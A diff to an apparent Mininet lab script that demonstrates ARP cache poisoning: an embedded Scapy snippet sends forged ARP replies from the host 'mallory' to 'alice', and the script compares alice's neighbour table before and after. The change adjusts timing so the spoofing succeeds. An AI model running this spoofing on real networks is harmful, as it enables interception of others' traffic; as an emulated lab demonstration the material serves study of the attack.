@@ -10,7 +10,7 @@ me = get_if_hwaddr("mallory-eth0")
 alice = getmacbyip("10.0.0.1")
 for _ in range(5):
     sendp(Ether(dst=alice) / ARP(op=2, hwsrc=me, psrc="10.0.0.2", hwdst=alice, pdst="10.0.0.1"),
-          iface="mallory-eth0", inter=0.2, verbose=False)
+          iface="mallory-eth0", inter=0.5, verbose=False)
 """
 
 net = Mininet(controller=None, switch=LinuxBridge, autoSetMacs=True)
@@ -23,6 +23,7 @@ print(alice.cmd("ping -c 1 10.0.0.2 | grep received"))
 print("before:", alice.cmd("ip neigh show 10.0.0.2"))
 with open("/tmp/attack.py", "w") as file:
     file.write(ATTACK)
+alice.cmd("sleep 2")  # a fresh entry is locked for a second, arp(7)
 mallory.cmd("sysctl -w net.ipv4.ip_forward=0")
 print(mallory.cmd("python3 /tmp/attack.py"))
 print("after:", alice.cmd("ip neigh show 10.0.0.2"))
